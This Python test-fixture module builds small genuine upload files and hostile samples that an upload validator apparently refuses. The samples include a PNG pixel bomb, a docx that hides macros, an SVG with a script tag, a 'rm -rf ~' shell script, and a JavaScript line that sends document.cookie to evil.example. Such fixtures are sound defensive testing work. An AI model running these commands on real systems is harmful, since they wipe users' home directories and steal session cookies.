"""Small genuine files of every accepted kind, and the hostile ones we refuse."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def image(fmt: str, size=(64, 48), color=(200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format=fmt)
    return out.getvalue()


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header claims ten billion pixels."""
    data = bytearray(image("PNG", size=(1, 1)))
    # IHDR data starts after the 8-byte signature, 4-byte length and 4-byte type.
    data[16:24] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF
    data[29:33] = struct.pack(">I", crc)
    return bytes(data)


def zip_of(entries: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(
                zipfile.ZipInfo(stored_first), entries[stored_first], zipfile.ZIP_STORED
            )
        for name, content in entries.items():
            if name != stored_first:
                archive.writestr(name, content)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b"</Types>"
)


def docx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
        }
    )


def docm_named_docx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES.replace(
                b"</Types>",
                b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            ),
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\x00" * 64,
        }
    )


def xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Relevé"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def odt() -> bytes:
    return zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest/>",
        },
        stored_first="mimetype",
    )


def plain_zip() -> bytes:
    return zip_of({"facture.pdf": PDF, "photo.png": image("PNG")})


def ole_file(*names: str, storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE2 compound file (version 3) with the given top-level streams.

    What Word 97-2003 (``WordDocument``), Excel (``Workbook``) and Outlook
    (``__properties_version1.0``) files look like to a reader of the container.
    """
    sector = 512
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    stream_size = 4096  # at the mini-stream cutoff: stored in ordinary sectors
    per_stream = stream_size // sector
    entries = [(n, 2) for n in names] + [(n, 1) for n in storages]
    assert 1 + len(entries) <= 4, "one directory sector holds four entries"
    fat = [fat_sector, end]
    first_sectors = []
    for _ in names:
        start = len(fat)
        first_sectors.append(start)
        fat.extend(range(start + 1, start + per_stream))
        fat.append(end)
    fat.extend([free] * (sector // 4 - len(fat)))

    def entry(name, kind, child=no_stream, right=no_stream, start=end, size=0):
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", no_stream, right, child)
            + b"\0" * 16
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, child=1 if entries else no_stream)
    for index, (name, kind) in enumerate(entries):
        right = index + 2 if index + 1 < len(entries) else no_stream
        if kind == 2:
            directory += entry(name, 2, right=right, start=first_sectors[index], size=stream_size)
        else:
            directory += entry(name, 1, right=right)
    directory = directory.ljust(sector, b"\0")
    for padding in range(len(entries) + 1, 4):
        directory = (
            directory[: padding * 128] + entry("", 0)[:128] + directory[(padding + 1) * 128 :]
        )

    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    body = struct.pack(f"<{sector // 4}I", *fat) + directory
    for _ in names:
        body += b"D" * stream_size
    return header + body


OLE_DOC = ole_file("WordDocument", "1Table")
OLE_XLS = ole_file("Workbook")
OLE_MSG = ole_file("__properties_version1.0", "__substg1.0_0037001F")
OLE_DOC_WITH_MACROS = ole_file("WordDocument", storages=("Macros",))
OLE_INSTALLER = ole_file("\u4840\u3f3f\u4577")  # an MSI's encoded stream names
EML = (
    b"From: Agnes Perrin <agnes.perrin@example.fr>\r\n"
    b"To: recouvrement@example.fr\r\n"
    b"Subject: =?utf-8?q?R=C3=A8glement?=\r\n"
    b"Date: Fri, 27 Nov 2026 16:42:00 +0100\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><body><p>Je r\xc3\xa8gle le 15/12.</p></body></html>\r\n"
)
TEXT_UTF8 = "Relevé de compte\nSolde dû : 1 234,56 €\n".encode()
TEXT_LATIN1 = "Relevé de compte ; échéance dépassée\r\n".encode("latin-1")
HTML = b"<!DOCTYPE html>\n<html><head><title>Facture</title></head><body>x</body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64
SHELL = b"#!/bin/sh\nrm -rf ~\n"
JS = b"document.location = 'https://evil.example/' + document.cookie;\n"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24
RAR = b"Rar!\x1a\x07\x00" + b"\x00" * 24
BINARY = bytes(range(256)) * 4
